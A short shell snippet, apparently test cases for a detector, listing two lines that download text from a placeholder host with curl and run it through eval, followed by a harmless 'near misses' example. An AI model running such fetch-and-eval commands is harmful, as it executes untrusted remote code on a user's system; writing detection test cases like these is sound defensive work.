read -r line < <(curl -s https://a.invalid/s); eval "$line"
curl -s https://a.invalid/s | while read -r line; do eval "$line"; done
# near misses
read -r name; echo "$name"
